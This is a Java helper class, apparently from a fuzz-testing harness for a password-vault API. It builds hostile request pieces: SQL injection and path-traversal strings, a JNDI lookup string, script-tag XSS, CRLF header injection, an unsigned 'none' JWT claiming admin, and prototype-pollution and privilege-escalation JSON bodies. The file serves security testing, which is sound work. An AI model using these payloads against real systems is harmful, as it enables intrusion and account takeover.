package com.roamvault.attack.fuzz;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;

/** The hostile pieces requests are built from: ids, strings, JSON bodies, tokens, content types, methods. */
final class HostileValues {
    static final List<String> IDS = List.of("1", "0", "-1", "99999999999999999999999", "1e3", "0x10", "abc", "1.5",
            "..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e", "..", "%252e%252e", "1%3BDROP%20TABLE%20users",
            "1'%20OR%20'1'%3D'1", "%E2%80%AE1", "%EF%BF%BF", "%F0%9F%92%A9", "1%20", "%7B%7D", "null", "true",
            "00000000-0000-0000-0000-000000000000", "a".repeat(300), "%0d%0aX-Injected:%201");
    static final List<String> STRINGS = List.of("", " ", "\u0000", "a\u0000b", "\u202Eevil\u202C", "\uFEFF",
            "\ud800", "\udfff", "\ud83d\ude00", "' OR '1'='1", "'; DROP TABLE users; --", "${jndi:ldap://x/a}",
            "<script>alert(1)</script>", "../../../../etc/passwd", "CORP\\admin", "admin", "%00", "\r\nX-Bad: 1",
            "x".repeat(70_000), "\u0645\u0631\u062D\u0628\u0627", "null", "{{7*7}}", "\\u0000");
    static final List<String> CONTENT_TYPES = List.of("application/json", "text/plain", "application/xml",
            "multipart/form-data; boundary=x", "application/x-www-form-urlencoded", "application/json; charset=utf-16",
            "application/json; charset=bogus", "*/*", "");
    static final List<String> METHODS = List.of("GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "FOO",
            "HEAD", "PROPFIND", "get");
    static final List<String> QUERIES = List.of("", "?limit=-1", "?limit=1000000", "?before=abc", "?from=yesterday",
            "?to=2026-13-45T99:99:99Z", "?offset=-5", "?query=%27%20OR%201%3D1%20--", "?q=%00%E2%80%AE",
            "?user=CORP%5Cadmin&involving=%25", "?cursor=" + "A".repeat(3000), "?cursor=..%2F..", "?Qty=1000",
            "?PasswordLength=100000", "?limit=1&limit=2", "?%zz=1", "?a[]=1&a[x]=2", "?QueryAll");

    private HostileValues() {
    }

    static <T> T pick(Random random, List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    static String forgedBearer(Random random) {
        return switch (random.nextInt(8)) {
            case 0 -> "Bearer " + randomToken(random, 43);
            case 1 -> "Bearer ";
            case 2 -> "Bearer null";
            case 3 -> "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiIsInJvbGUiOiJhZG1pbiJ9.";
            case 4 -> "Basic YWRtaW46YWRtaW4=";
            case 5 -> "Bearer " + randomToken(random, 8_000);
            case 6 -> "bearer " + randomToken(random, 44) + "' OR '1'='1";
            default -> "Bearer " + randomToken(random, 43) + ", Bearer " + randomToken(random, 43);
        };
    }

    static String randomToken(Random random, int length) {
        String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        StringBuilder token = new StringBuilder(length);
        for (int i = 0; i < length; i++) {
            token.append(alphabet.charAt(random.nextInt(alphabet.length())));
        }
        return token.toString();
    }

    /** A hostile JSON (or not-JSON) body. */
    static byte[] body(Random random) {
        String s = pick(random, STRINGS).replace("\\", "\\\\").replace("\"", "\\\"");
        String text = switch (random.nextInt(20)) {
            case 0 -> "[".repeat(10_000);
            case 1 -> "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000);
            case 2 -> "{\"name\": \"" + "x".repeat(random.nextInt(5) == 0 ? 2_200_000 : 100_000) + "\"}";
            case 3 -> "{\"username\": ";
            case 4 -> "not json at all";
            case 5 -> "{'single': 'quotes'}";
            case 6 -> "{\"name\": \"x\"} trailing";
            case 7 -> "null";
            case 8 -> "[1, 2, 3]";
            case 9 -> "{\"events\": [{\"id\": \"" + s + "\", \"occurredAt\": \"" + s + "\", \"action\": 7}]}";
            case 10 -> "{\"offlineCacheDays\": \"many\", \"autoLockMinutes\": 1e999}";
            case 11 -> "{\"username\": \"" + s + "\", \"displayName\": \"" + s + "\", \"masterPassword\": \"" + s + "\"}";
            case 12 -> "{\"name\": \"" + s + "\", \"members\": [\"" + s + "\", -1, 99999999999]}";
            case 13 -> "{\"permissions\": [{\"userId\": \"" + s + "\", \"level\": \"root\", \"mobileAccess\": 1}]}";
            case 14 -> "{\"PasswordListID\": \"" + s + "\", \"Title\": \"" + s + "\", \"PasswordID\": -1}";
            case 15 -> "{\"editId\": \"" + s + "\", \"baseVersion\": -1, \"changes\": {\"password\": \"" + s + "\"}}";
            case 16 -> "{\"current\": \"" + s + "\", \"new\": \"" + s + "\", \"isAdmin\": true}";
            case 17 -> "{\"version\": 9223372036854775807, \"__proto__\": {\"admin\": true}}";
            case 18 -> "\"" + s + "\"";
            default -> "{\"" + s + "\": \"" + s + "\"}";
        };
        byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
        if (random.nextInt(10) == 0) {
            return overlong(bytes);
        }
        return bytes;
    }

    /** Bytes that are not UTF-8: an overlong '/' and a lone continuation byte spliced into the body. */
    private static byte[] overlong(byte[] bytes) {
        byte[] out = new byte[bytes.length + 3];
        out[0] = (byte) 0xC0;
        out[1] = (byte) 0xAF;
        out[2] = (byte) 0x80;
        System.arraycopy(bytes, 0, out, 3, bytes.length);
        return out;
    }
}
